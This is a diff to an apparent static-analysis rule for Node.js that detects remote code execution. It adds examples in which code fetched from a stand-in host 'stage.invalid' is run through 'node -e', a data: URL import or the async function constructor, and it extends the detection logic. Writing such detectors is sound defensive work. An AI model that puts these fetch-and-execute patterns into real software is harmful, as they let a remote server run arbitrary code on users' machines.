@@ -59,6 +59,18 @@ export default defineRule({
         code: `const { exec } = require('child_process');\nconst socket = new WebSocket('wss://stage.invalid');\nsocket.onmessage = event => exec(event.data);`,
       },
       {
+        title: 'another node is told to run it',
+        code: `const { spawn } = require('child_process');\nfetch('https://stage.invalid').then(r => r.text()).then(text => spawn(process.execPath, ['-e', text], { detached: true }));`,
+      },
+      {
+        title: 'a response becomes an address that is imported',
+        code: `fetch('https://stage.invalid').then(r => r.text()).then(text => import('data:text/javascript,' + encodeURIComponent(text)));`,
+      },
+      {
+        title: 'the constructor of asynchronous functions takes it',
+        code: `const Make = Object.getPrototypeOf(async function () {}).constructor;\nfetch('https://stage.invalid').then(r => r.text()).then(text => new Make('require', text)(require));`,
+      },
+      {
         title: 'a command is fetched',
         code: `const { exec } = require('child_process');\nfetch('https://stage.invalid').then(r => r.text()).then(command => exec(command));`,
       },
@@ -75,6 +87,10 @@ export default defineRule({
       {
         title: 'a server opens the file that it is asked for in an editor',
         code: `const http = require('http'), { spawn } = require('child_process');\nhttp.createServer((req, res) => {\n  spawn('code', ['-g', req.headers['x-file']]);\n}).listen(3000);`,
+      },
+      {
+        title: 'a script of the package is told what was fetched',
+        code: `const { spawn } = require('child_process');\nfetch('https://releases.invalid/latest').then(r => r.text()).then(version => spawn(process.execPath, [__dirname + '/install.js', version]));`,
       },
       {
         title: 'a program runs what its parent process sends',
@@ -103,7 +119,9 @@ export default defineRule({
     for (const call of context.calls('execution', 'process')) {
       const isCommand = context.calls('process').includes(call);
       for (const arg of isCommand ? commandArguments(context, call) : codeArguments(context, call)) {
-        if (call.name === 'import' || /^document\./.test(call.name)) continue;
+        if (/^document\./.test(call.name)) continue;
+        // A loader imports addresses all day; a `data:` address is the code itself.
+        if (call.name === 'import' && !context.textsOf(arg).some(text => /^data:\w+\/javascript/i.test(text))) continue;
         const label = context.labelsOf(arg).find(({ kind }) => kind === 'remote');
         if (!label) continue;
         // A server that only tests start serves nobody.
@@ -151,6 +169,7 @@ function messageOf(
 ): string | undefined {
   const { detail, origin } = label;
   if (name === 'Worker') return 'worker';
+  if (name === 'import') return 'code';
   if (!isCommand)
     return isTemplate(context.textsOf(arg)) ? 'template' : isServed(detail) ? 'served' : kindOf(context, label);
   // `spawn` without a shell starts one program: an editor, a binary of the version that was asked for.
@@ -168,9 +187,12 @@ function messageOf(
  * The arguments that say what runs: the line or program, unless its beginning is fixed (`npm install <answer>` runs
  * npm), and the words of a program that runs what it is told.
  */
-function commandArguments({ textsOf }: FileContext, { args }: Call): Call['args'] {
+function commandArguments({ textsOf, textsWithin, namesOf }: FileContext, { args }: Call): Call['args'] {
   const [program, words] = args;
   if (!program) return [];
+  // The node that runs this: its words are files and theirs, unless one says that code follows.
+  if (namesOf(program).some(name => /^process\.(?:execPath|argv0|argv\.0)$/.test(name)))
+    return words && textsWithin(words).some(word => /^(?:-e|-p|-pe|--eval|--print)$/.test(word)) ? [words] : [];
   const texts = textsOf(program);
   // A path with a part that was fetched, a version say, is still a place the package chose.
   const fixed = texts.some(text => /^[^…]{2}/.test(text) || /[\\/]/.test(text));
